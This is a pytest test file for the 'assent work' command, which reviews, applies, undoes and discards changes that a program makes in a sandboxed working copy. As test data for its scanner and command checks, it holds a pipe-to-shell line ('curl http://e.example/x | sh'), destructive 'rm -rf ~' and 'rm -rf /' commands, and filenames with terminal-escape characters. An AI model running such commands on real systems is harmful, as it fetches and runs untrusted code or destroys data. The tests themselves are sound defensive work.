"""`assent work` on the terminal: what it lists, applies, takes back, discards, and what it refuses."""

from __future__ import annotations

import errno
import json
import os
import re
import shutil
import subprocess
import time
from typing import TYPE_CHECKING, Any

import pytest

from runner.commands import at_work, cli, work_changes
from runner.commands import work_orders as commands
from runner.model.errors import KnownError
from runner.model.network import UnusableHost
from runner.model.work import CommandSeen, WorkEnded
from runner.system.places import Places
from runner.work.log import WorkLog
from runner.workspace.working_copy import WorkingCopy
from tests.workspace.trees import look, make, work

if TYPE_CHECKING:
    from pathlib import Path

LINES = "".join(f"{number}\n" for number in range(1, 41))
ODD = r"n\n\x1b[2J\xe2\x80\xae\xff"
PROGRAM = f"""echo p >>b; rm e/x; echo x >Makefile; python3 -c "open(b'{ODD}', 'w')" """


class Said:
    """What a command printed and returned."""

    def __init__(self, code: int, out: str, err: str) -> None:
        self.code, self.out, self.err = code, out, err


class Shell:
    """Runs `assent work` in this process."""

    def __init__(self, capsys: pytest.CaptureFixture[str]) -> None:
        self._capsys = capsys

    def __call__(self, *words: str) -> Said:
        try:
            code = cli.main(["work", *words])
        except SystemExit as ended:
            code = ended.code if isinstance(ended.code, int) else 1
        said = self._capsys.readouterr()
        assert "Traceback" not in said.err
        return Said(code, said.out, said.err)

    def json(self, *words: str) -> Any:
        return json.loads(self(*words, "--json").out)


@pytest.fixture
def shell(tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]) -> Shell:
    monkeypatch.setenv("ASSENT_HOME", str(tmp_path / "home"))
    return Shell(capsys)


@pytest.fixture
def copy(tmp_path: Path, shell: Shell) -> WorkingCopy:
    project = make(tmp_path / "project")
    (project / "text").write_text(LINES)
    return WorkingCopy.make(Places.standard().work, project, ("bash", "-c", "echo\n\x1b[2J"))


def test_without_working_copies_it_says_how_one_is_made(shell: Shell) -> None:
    assert "assent try" in shell("list").out
    assert shell.json("list") == []


def test_the_list_names_project_and_command_in_a_line_each(shell: Shell, copy: WorkingCopy) -> None:
    said = shell("list").out
    assert copy.name in said and str(copy.project) in said
    assert len(said.splitlines()) == 2 and "\x1b" not in said
    (row,) = shell.json("list")
    assert row["name"] == copy.name and row["program"] == list(copy.program) and row["can_undo"] is False


def test_changes_are_listed_with_odd_names_written_out(shell: Shell, copy: WorkingCopy) -> None:
    work(copy, PROGRAM)
    for words in (["changes", copy.name], ["changes", copy.name, "--diff"], ["changes", copy.name, "--json"]):
        said = shell(*words)
        assert said.code == 0 and not set(said.out) & {"\x1b", "\u202e", "\udcff"}
    rows = {row["path"]: row for row in shell.json("changes", copy.name)["changes"]}
    assert (rows["b"]["how"], rows["e/x"]["how"]) == ("changed", "deleted")
    assert rows["Makefile"]["mark"] and not rows["b"]["mark"]


def test_what_is_marked_is_applied_only_with_a_word_of_its_own(shell: Shell, copy: WorkingCopy) -> None:
    work(copy, PROGRAM)
    said = shell("apply", copy.name)
    assert said.code == 1 and "1 left" in said.out
    assert not (copy.project / "Makefile").exists() and (copy.project / "b").read_text() == "b\np\n"
    assert shell("apply", copy.name, "--marked").code == 0
    assert (copy.project / "Makefile").exists()
    assert "nothing to apply" in shell("apply", copy.name).out


def test_a_part_is_applied_by_path_and_another_path_is_an_error(shell: Shell, copy: WorkingCopy) -> None:
    work(copy, "echo n >d/n; echo n >d2; echo n >e/n")
    before = look(copy.project)
    said = shell("apply", copy.name, "nothing/there")
    assert said.code == 1 and "Nothing is changed there" in said.err and look(copy.project) == before
    assert shell("apply", copy.name, "d/").code == 0
    assert (copy.project / "d/n").exists() and not (copy.project / "d2").exists()


def test_the_digest_lets_through_exactly_what_was_seen(shell: Shell, copy: WorkingCopy) -> None:
    work(copy, "echo n >n")
    seen = shell.json("changes", copy.name)["digest"]
    work(copy, "echo m >m")
    before = look(copy.project)
    said = shell("apply", copy.name, "--digest", seen)
    assert said.code == 1 and "not those with this digest" in said.err and look(copy.project) == before
    assert shell("apply", copy.name, "--digest", shell.json("changes", copy.name)["digest"]).code == 0


def test_undo_takes_back_once(shell: Shell, copy: WorkingCopy) -> None:
    before = look(copy.project)
    work(copy, "echo n >n; rm b")
    assert shell("undo", copy.name).code == 1
    shell("apply", copy.name)
    assert "can be undone" in shell("list").out
    assert "Taken back: 2 changes." in shell("undo", copy.name).out
    assert look(copy.project) == before
    said = shell("undo", copy.name)
    assert said.code == 1 and "nothing to undo" in said.err


def test_undo_names_what_it_would_leave_and_leaves_it_only_when_told(shell: Shell, copy: WorkingCopy) -> None:
    work(copy, "echo n >n; rm b")
    shell("apply", copy.name)
    (copy.project / "n").write_text("mine")
    applied = look(copy.project)
    seen = shell("undo", copy.name, "--dry-run")
    assert (seen.code, "? n  CONFLICT: stays: it was changed since" in seen.out) == (1, True)
    plan = shell.json("undo", copy.name, "--dry-run")
    assert (plan["done"], "b" in plan["undone"], plan["kept"]) == (
        False,
        True,
        [{"path": "n", "why": "it was changed since"}],
    )
    for flags in ([], ["--json"]):
        said = shell("undo", copy.name, *flags)
        assert said.code == 1 and "1 would stay" in said.err and look(copy.project) == applied
    said = shell("undo", copy.name, "--partly")
    assert said.code == 1 and "? n  CONFLICT: stays" in said.out and "Taken back" in said.out
    assert (copy.project / "n").read_text() == "mine" and (copy.project / "b").exists()
    said = shell("undo", copy.name, "--partly")
    assert said.code == 1 and "Nothing can be taken back. “n”" in said.err
    (copy.project / "n").unlink()


def test_a_merge_is_applied_only_with_a_word_of_its_own(shell: Shell, copy: WorkingCopy) -> None:
    work(copy, "sed -i s/^25$/program/ text")
    shell("changes", copy.name)
    subprocess.run(["sed", "-i", "s/^5$/person/", "text"], cwd=copy.project, check=True)
    assert "merged with your edit" in shell("changes", copy.name).out
    assert shell.json("changes", copy.name)["changes"][0]["merged"] is True
    for flags in ([], ["--marked"]):
        assert shell("apply", copy.name, *flags).code == 1
        assert "program" not in (copy.project / "text").read_text()
    seen = shell.json("changes", copy.name)["digest"]
    assert shell("apply", copy.name, "--merged", "--digest", seen).code == 0
    assert {"program", "person"} <= set((copy.project / "text").read_text().split())


def test_a_conflict_is_left_and_said(shell: Shell, copy: WorkingCopy) -> None:
    work(copy, "echo p >>text")
    (copy.project / "text").write_text("mine\n")
    assert "CONFLICT" in shell("changes", copy.name).out
    assert shell("apply", copy.name, "--marked", "--merged").code == 1
    assert (copy.project / "text").read_text() == "mine\n"


@pytest.mark.parametrize("action", [["changes"], ["apply"], ["undo"], ["discard", "--yes"]])
@pytest.mark.parametrize("name", ["nothing", "../project", "a\nb\x1b[2J"])
def test_a_name_that_is_none_is_an_error_in_a_line(
    shell: Shell, copy: WorkingCopy, action: list[str], name: str
) -> None:
    said = shell(action[0], name, *action[1:])
    assert said.code == 1 and "no working copy" in said.err and "\x1b" not in said.err
    assert copy.folder.exists()


@pytest.mark.parametrize("failing", ["apply", "undo"])
def test_an_apply_that_wrote_nothing_says_so(
    shell: Shell, copy: WorkingCopy, monkeypatch: pytest.MonkeyPatch, failing: str
) -> None:
    """A project that cannot be written to, for example."""
    work(copy, "echo p >>text")
    if failing == "undo":
        shell("apply", copy.name)

    def fail(*_given: object, **_named: object) -> None:
        raise OSError(errno.EROFS, os.strerror(errno.EROFS))

    monkeypatch.setattr(WorkingCopy, failing, fail)
    said = shell(failing, copy.name)
    assert said.code == 1
    assert said.err.strip() == "assent: Read-only file system. Nothing was changed in the project."


def test_what_cannot_be_read_is_said_in_a_line(shell: Shell, copy: WorkingCopy) -> None:
    shutil.rmtree(copy.content)
    for words in (["changes"], ["apply"]):
        said = shell(words[0], copy.name)
        assert said.code == 1 and "cannot be read" in said.err
    assert shell("list").code == 0
    assert shell("discard", copy.name, "--yes").code == 0
    assert not copy.folder.exists()


def test_one_in_which_a_program_runs_is_not_discarded(shell: Shell, copy: WorkingCopy) -> None:
    with copy.in_use():
        said = shell("discard", copy.name, "--yes")
    assert said.code == 1 and "still running" in said.err
    assert copy.folder.exists()


def test_discard_asks_somebody_or_needs_a_yes_and_can_be_done_once(shell: Shell, copy: WorkingCopy) -> None:
    work(copy, "echo n >n")
    said = shell("discard", copy.name)
    assert said.code == 1 and "--yes" in said.err and copy.folder.exists()
    before = look(copy.project)
    assert shell("discard", copy.name, "--yes").code == 0
    assert not copy.folder.exists() and look(copy.project) == before
    assert "no working copy" in shell("discard", copy.name, "--yes").err


def test_an_error_about_an_odd_name_is_written_out(shell: Shell, copy: WorkingCopy) -> None:
    work(copy, PROGRAM)
    shell("apply", copy.name)
    (copy.project / b"n\n\x1b[2J\xe2\x80\xae\xff".decode("utf-8", "surrogateescape")).write_text("mine")
    said = shell("undo", copy.name, "--partly")
    assert said.code == 1 and "it was changed since" in said.out.splitlines()[0]
    assert not set(said.out) & {"\x1b", "\u202e", "\udcff"}


def test_some_hunks_are_applied_and_the_others_stay(shell: Shell, copy: WorkingCopy) -> None:
    work(copy, "sed -i 's/^5$/one/; s/^20$/two/; s/^35$/three/' text; chmod 600 text; printf x >>text")
    listed = shell("changes", copy.name, "--diff").out
    assert "#1" in listed and "#3" in listed and "#4" not in listed
    mode = (copy.project / "text").stat().st_mode
    assert shell("apply", copy.name, "text", "--hunks", "1,3").code == 0
    assert (copy.project / "text").read_text() == LINES.replace("\n5\n", "\none\n").replace("\n35\n", "\nthree\n") + "x"
    assert (copy.project / "text").stat().st_mode == mode
    assert "#2" not in shell("changes", copy.name, "--diff").out
    shell("undo", copy.name)
    assert (copy.project / "text").read_text() == LINES


@pytest.mark.parametrize("words", [["text", "--hunks", "3"], ["--hunks", "1"], ["text", "b", "--hunks", "1"]])
def test_hunks_that_are_none_are_an_error(shell: Shell, copy: WorkingCopy, words: list[str]) -> None:
    work(copy, "sed -i s/^5$/one/ text; echo p >>b")
    before = look(copy.project)
    assert shell("apply", copy.name, *words).code == 1
    assert look(copy.project) == before


def test_hunks_of_a_conflict_are_not_applied(shell: Shell, copy: WorkingCopy) -> None:
    work(copy, "sed -i s/^5$/one/ text")
    (copy.project / "text").write_text("mine\n")
    assert shell("apply", copy.name, "text", "--hunks", "1").code == 1
    assert (copy.project / "text").read_text() == "mine\n"


def _aged(copy: WorkingCopy, days: float) -> None:
    """Let a working copy have been made and applied so long ago."""
    about = copy.folder / "about.json"
    then = time.time() - days * 86_400
    about.write_text(json.dumps({**json.loads(about.read_text()), "made": then}))
    for file in copy.folder.glob("undo.json"):
        os.utime(file, (then, then))


@pytest.mark.parametrize(
    ("program", "applied", "days", "removed"),
    [
        ("true", False, 8, True),
        ("true", False, 6, False),
        ("echo n >n", True, 8, True),
        ("echo n >n", True, 6, False),
        ("echo n >n", False, 900, False),
        ("echo n >n; echo x >Makefile", True, 900, False),
        ("python3 -c \"import socket; socket.socket(socket.AF_UNIX).bind('so')\"", False, 900, False),
    ],
)
def test_only_what_is_applied_and_old_is_offered_and_removed(
    shell: Shell, copy: WorkingCopy, program: str, days: float, *, applied: bool, removed: bool
) -> None:
    work(copy, program)
    if applied:
        shell("apply", copy.name)
    _aged(copy, days)
    before = look(copy.project)
    listed = shell("list").out
    assert " kB" in listed and ("discard --applied" in listed) == removed
    assert copy.folder.exists(), "the list removed it"
    assert shell("discard", "--applied").code == (1 if removed else 0)
    assert copy.folder.exists(), "nobody was asked"
    assert shell("discard", "--applied", "--yes").code == 0
    assert copy.folder.exists() != removed and look(copy.project) == before


def test_what_was_taken_back_is_not_removed_as_applied(shell: Shell, copy: WorkingCopy) -> None:
    work(copy, "echo n >n")
    shell("apply", copy.name)
    shell("undo", copy.name)
    _aged(copy, 900)
    assert not copy.discard_applied()
    shell("discard", "--applied", "--yes")
    assert copy.folder.exists()


def test_discard_takes_one_name_or_the_applied_ones(shell: Shell, copy: WorkingCopy) -> None:
    for words in ([], [copy.name, "--applied"]):
        assert shell("discard", *words, "--yes").code == 1
    assert copy.folder.exists()


def test_added_lines_carry_their_findings(shell: Shell, copy: WorkingCopy) -> None:
    work(copy, "echo 'import os; os.system(\"curl http://e.example/x | sh\")' >n.py; printf 'x\\0' >m.py")
    said = shell("changes", copy.name, "--diff").out
    at = said.index("+import os")
    assert "\n    ! CRITICAL: Runs code that comes from the network" in said[at:]
    assert "1 change adds what has findings, up to CRITICAL." in said and "1 was not read for findings." in said
    rows = {row["path"]: row for row in shell.json("changes", copy.name)["changes"]}
    assert {"line": 1, "level": "CRITICAL"}.items() <= rows["n.py"]["findings"][0].items()
    assert rows["m.py"]["findings"] == [] and rows["m.py"]["not_read"] == "It is no text."


@pytest.mark.parametrize(
    ("text", "meant"),
    [
        ("https://pypi.example/simple/x?y#z", "pypi.example:443"),
        ("HTTP://user:pw@Pypi.example", "pypi.example:80"),
        ("https://pypi.example:8443/", "pypi.example:8443"),
        ("pypi.example", "pypi.example:443"),
        ("pypi.example:8080", "pypi.example:8080"),
    ],
)
def test_a_host_is_meant_by_a_url_as_well(text: str, meant: str) -> None:
    assert commands._destination(text).with_port == meant


@pytest.mark.parametrize("text", ["ftp://pypi.example", "https://", "https:///etc/passwd", "file:///etc/passwd"])
def test_an_address_of_another_kind_means_no_host(text: str) -> None:
    with pytest.raises(UnusableHost):
        commands._destination(text)


def test_the_help_of_apply_has_examples_and_exit_codes(shell: Shell) -> None:
    said = shell("apply", "--help").out
    assert "assent work apply shop-1a2b3c" in said and "exit codes: 0" in said
    assert "exit codes: 0" in shell("--help").out


def test_commits_are_named_and_not_applied_in_part(shell: Shell, copy: WorkingCopy) -> None:
    git = "git -c user.name=a -c user.email=a@example.com"
    work(copy, f"git init -q -b trunk; git add a; {git} commit -qm 'Add a'")
    assert "1 commit on branch trunk: “Add a”." in shell("changes", copy.name).out
    assert shell.json("changes", copy.name)["commits"] == {
        "branch": "trunk",
        "subjects": ["Add a"],
        "refs": [],
    }
    before = look(copy.project)
    said = shell("apply", copy.name, ".git/HEAD", ".git/logs")
    assert said.code == 1 and "or not at all" in said.err and look(copy.project) == before


def test_commits_and_folders_that_nobody_reads_are_left_unless_they_are_named(shell: Shell, copy: WorkingCopy) -> None:
    git = "git -c user.name=a -c user.email=a@example.com"
    work(copy, "echo new >new; mkdir -p node_modules/p; echo x >node_modules/p/x.js")
    work(copy, f"git init -q; git add new; {git} commit -qm N")
    listed = shell("changes", copy.name).out
    assert "+ node_modules/p/x.js  (stays, unless you name it)" in listed and "+ new\n" in listed
    assert re.search(r"^\* \.git/: \d+ added  \(stays, unless you name it\)$", listed, re.MULTILINE)
    assert ".git/objects" not in shell("changes", copy.name, "--diff").out, "what is counted is not printed"
    said = shell("apply", copy.name)
    assert said.code == 1 and "(node_modules, .git)" in said.out
    assert {one.name for one in copy.project.iterdir()} >= {"new"} and not (copy.project / "node_modules").exists()
    assert shell("apply", copy.name, "node_modules").code == 0 and (copy.project / "node_modules/p/x.js").exists()
    assert not (copy.project / ".git").exists()
    assert shell("apply", copy.name, "--folders", "--marked").code == 0 and (copy.project / ".git/HEAD").exists()


def test_undo_says_of_a_file_of_another_size_that_it_changes(shell: Shell, copy: WorkingCopy) -> None:
    work(copy, "echo 'somewhat longer' >a")
    assert shell("apply", copy.name).code == 0
    assert shell("undo", copy.name, "--dry-run").out.startswith("~ a\n1 changed would be taken back.")


def test_the_list_says_how_each_ended(shell: Shell, copy: WorkingCopy) -> None:
    assert ", its end is not recorded" in shell("list").out and shell.json("list")[0]["ended"] is None
    copy.note_end(3)
    assert re.search(r", ended \d\d:\d\d with 3$", shell("list").out, re.MULTILINE)
    other = WorkingCopy.make(copy.folder.parent, copy.project, ("claude",))
    log = WorkLog(other.folder)
    log.add(CommandSeen(1.0, 1, "x" * 70_000, "/p"))
    log.add(WorkEnded(time.time(), 137, "A person ended it from Assent."))
    log.close()
    assert re.search(r", ended \d\d:\d\d \(A person ended it from Assent\)$", shell("list").out, re.MULTILINE)
    assert [(row["at_work"], row["ended"]["code"]) for row in shell.json("list")] == [(False, 137), (False, 3)]


def test_what_needs_a_word_is_listed_before_what_may_not_be_listed(
    shell: Shell, copy: WorkingCopy, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(work_changes, "MOST_LISTED", 3)
    work(copy, "touch n1 n2 n3 n4; mkdir z; echo x >z/Makefile")
    said = shell("changes", copy.name).out
    assert said.splitlines()[0].startswith("+ z/Makefile  ! ") and "... and 3 more\n" in said
    work(copy, "mkdir y; for one in 1 2 3 4; do mkdir y/$one; echo x >y/$one/Makefile; done")
    assert " more, of them 2 marked (!) or in conflict" in shell("changes", copy.name).out


def test_commits_are_applied_by_a_word_for_them(shell: Shell, copy: WorkingCopy) -> None:
    """What a commit has need not be what the files have, which alone are shown."""
    git = "git -c user.name=a -c user.email=a@example.com"
    work(copy, f"git init -q -b trunk; rm -rf .git/hooks; git add a; {git} commit -qm 'Add a'; echo n >n")
    assert shell("apply", copy.name).code == 1
    assert (copy.project / "n").exists() and not (copy.project / ".git/HEAD").exists()
    assert shell("apply", copy.name, ".git").code == 1, "its configuration is marked by itself"
    assert (copy.project / ".git/HEAD").exists() and not (copy.project / ".git/config").exists()


def test_of_a_program_that_is_not_known_all_words_of_its_shell_are_judged(
    shell: Shell, copy: WorkingCopy, monkeypatch: pytest.MonkeyPatch
) -> None:
    """`bash -c -e 'rm -rf ~'` was judged, held and shown as `-e`."""
    given: dict[str, Any] = {}

    def caught(*_words: object, **named: object) -> object:
        given.update(named)
        raise KnownError("caught")

    monkeypatch.setattr(at_work, "WorkRun", caught)
    monkeypatch.chdir(copy.project)
    assert "caught" in shell("--", "true").err
    unwrapped = given["unwrapped"]
    assert unwrapped(("bash", "-lc", "pytest -q")) == "pytest -q"
    for words in (
        ("-c", "-e", "rm -rf ~"),
        ("-c", '"$@"', "x", "rm", "-rf", "/"),
        ("-c", 'eval "$1"', "x", "rm -rf /"),
    ):
        assert "rm" in unwrapped(("/usr/bin/bash", *words))
